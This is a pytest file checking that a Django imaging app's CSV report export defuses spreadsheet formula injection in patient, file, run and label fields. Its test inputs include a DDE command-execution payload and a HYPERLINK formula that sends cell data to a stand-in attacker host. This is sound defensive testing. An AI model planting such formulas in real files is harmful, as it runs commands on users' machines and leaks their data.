"""S40: whatever a person typed, no spreadsheet executes it, and the file parses back."""

from __future__ import annotations

import csv
import io

import pytest

from imaging.models import Patient, Run, SourceFile
from reports.csv import csv_lines
from reports.table import HEAD, table_rows
from tests.imaging.factories import ResultFactory

pytestmark = pytest.mark.django_db
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0=",
    "\t=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "  +",
    "\r\n=",
]
BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1,"x")', '1+1";=2+2,"\r\n=3']
FIELDS = {"patient_name", "record_number", "file", "ensemble", "labels"}
DANGEROUS = set("=+-@\t\r\n\0＝＋－＠")


def parsed(result) -> dict[str, str]:
    data = b"".join(csv_lines(table_rows([result], notice="Research use only"))).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(data, newline=""))
    assert tuple(row) == HEAD
    return row


@pytest.mark.parametrize("body", BODIES)
def test_every_dangerous_start_in_every_field_is_text(body):
    result = ResultFactory()
    for start in STARTS:
        text = start + body
        result.patient.name = result.patient.record_number = text
        result.image.source.name = result.job.run.title = text
        result.labels = [text]
        row = parsed(result)
        for name in FIELDS:
            cell = row[name]
            assert cell.startswith("'"), (start, name)
            assert cell[1:] == text.replace("\0", ""), (start, name)


def test_no_cell_of_ours_begins_dangerously_but_a_number_may():
    result = ResultFactory()
    result.table[0]["z"] = -1.5
    row = parsed(result)
    assert row["z"] == "-1.5"
    risky = {name for name, cell in row.items() if cell[:1] in DANGEROUS}
    assert risky - {"", "z"} == set()


def test_the_fields_are_all_that_a_person_writes_into_the_file():
    """A new column from a person's hand must join FIELDS here."""
    written = {"name", "record_number", "title"}
    assert written <= {f.name for model in (Patient, SourceFile, Run) for f in model._meta.fields}
    assert set(HEAD) >= FIELDS
